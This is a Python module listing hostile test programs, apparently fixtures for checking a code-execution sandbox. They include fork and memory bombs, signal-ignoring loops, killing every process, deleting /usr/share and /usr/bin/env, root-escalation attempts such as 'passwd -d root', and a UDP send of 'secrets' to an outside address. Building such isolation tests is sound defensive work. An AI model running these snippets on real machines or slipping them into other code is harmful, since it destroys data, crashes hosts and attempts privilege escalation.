"""Programs that attack the machine: its processes, memory, files, network and time."""

MACHINE_ATTACKS = {
    "fork_bomb": """
import os
while True:
    os.fork()
""",
    "fork_bomb_that_ignores_errors_and_signals": """
import os, signal
for number in range(1, 32):
    if number not in (9, 19):
        signal.signal(number, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "thread_bomb": """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(60,)).start()
""",
    "memory_bomb": """
blocks = []
while True:
    blocks.append(bytearray(100 << 20))
""",
    "memory_bomb_in_children": """
import os
for _ in range(8):
    os.fork()
blocks = []
while True:
    try:
        blocks.append(b"x" * (50 << 20))
    except MemoryError:
        pass
""",
    "memory_in_shared_segments": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(100):
    segment = libc.shmget(0, 200 << 20, 0o1600)
    assert segment >= 0, ctypes.get_errno()
    ctypes.memset(libc.shmat(segment, None, 0), 1, 200 << 20)
""",
    "memory_in_anonymous_files": """
import os
files = []
while True:
    files.append(os.memfd_create("x"))
    os.write(files[-1], bytes(4 << 20))
""",
    "disk_fill": """
file = open("/tmp/fill", "wb")
while True:
    file.write(bytes(1 << 20))
""",
    "disk_fill_with_many_files": """
number = 0
while True:
    number += 1
    open(f"/tmp/{number}", "w").write("x" * 4096)
""",
    "endless_output": """
while True:
    print("x" * 1000)
""",
    "endless_output_on_the_error_stream": """
import os
while True:
    os.write(2, b"x" * 65536)
""",
    "endless_loop": """
while True:
    pass
""",
    "endless_loop_that_refuses_to_end": """
import signal
for number in (signal.SIGXCPU, signal.SIGTERM, signal.SIGALRM, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "endless_sleep": """
import time
while True:
    time.sleep(1000)
""",
    "endless_computation_in_c": """
int("9") ** 9 ** 9
""",
    "endless_regular_expression": """
import re
re.match(r"(a+)+$", "a" * 64 + "b")
""",
    "compile_bomb": "x = " + "(" * 100_000 + ")" * 100_000,
    "compile_bomb_of_constants": "x = " + "-" * 500_000 + "1",
    "stack_overflow": """
import sys
sys.setrecursionlimit(10**9)
def descend():
    return [descend() for _ in range(1)]
descend()
""",
    "segmentation_fault": """
import ctypes
ctypes.string_at(1)
""",
    "limits_raised": """
import resource
for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE"):
    resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
blocks = [bytes(100 << 20) for _ in range(1000)]
""",
    "network": """
import socket
print(socket.create_connection(("1.1.1.1", 53), timeout=3).recv(10))
""",
    "network_datagram_and_listener": """
import socket
listener = socket.socket()
listener.bind(("0.0.0.0", 8080))
listener.listen()
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secrets", ("8.8.8.8", 53))
print(listener.accept())
""",
    "harness_killed": """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
""",
    "harness_stopped": """
import os, signal
os.kill(os.getppid(), signal.SIGSTOP)
""",
    "everything_killed": """
import os, signal
os.kill(-1, signal.SIGKILL)
os.kill(1, signal.SIGKILL)
""",
    "everything_stopped": """
import os, signal
os.kill(-1, signal.SIGSTOP)
""",
    "daemon_that_outlives_the_run": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for descriptor in range(3):
            os.close(descriptor)
        while True:
            time.sleep(0.1)
    os._exit(0)
""",
    "daemon_that_writes_later": """
import os, signal, time
signal.signal(signal.SIGHUP, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    time.sleep(1)
    open("/tmp/prorl-was-here", "w").write("x")
    open("/var/tmp/prorl-was-here", "w").write("x")
    os._exit(0)
""",
    "zombies": """
import os
for _ in range(1000):
    if os.fork() == 0:
        os._exit(0)
""",
    "system_files_changed": """
import os, shutil
for folder in ("/usr/bin", "/etc", "/dev", "/"):
    try:
        open(folder + "/prorl-was-here", "w").write("x")
    except OSError:
        pass
shutil.rmtree("/usr/share", ignore_errors=True)
os.remove("/usr/bin/env")
""",
    "mounts_and_namespaces": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    assert libc.unshare(flags) != 0, "unshared"
assert libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0) != 0, "mounted"
assert libc.chroot(b"/tmp") != 0, "chroot"
raise SystemExit(1)
""",
    "root_by_setuid_programs": """
import os, subprocess
for command in (["su", "-c", "id"], ["mount"], ["passwd", "-d", "root"], ["sudo", "id"]):
    try:
        print(subprocess.run(command, capture_output=True, input=b"").stdout)
    except OSError:
        pass
os.setuid(0)
""",
    "descriptors_exhausted": """
import os
while True:
    os.dup(0)
""",
    "clock_and_host_name_changed": """
import socket, time
time.clock_settime(time.CLOCK_REALTIME, 0)
socket.sethostname("prorl-was-here")
""",
    "source_with_nul_and_surrogates": "print('\\udc80')\n\0",
}
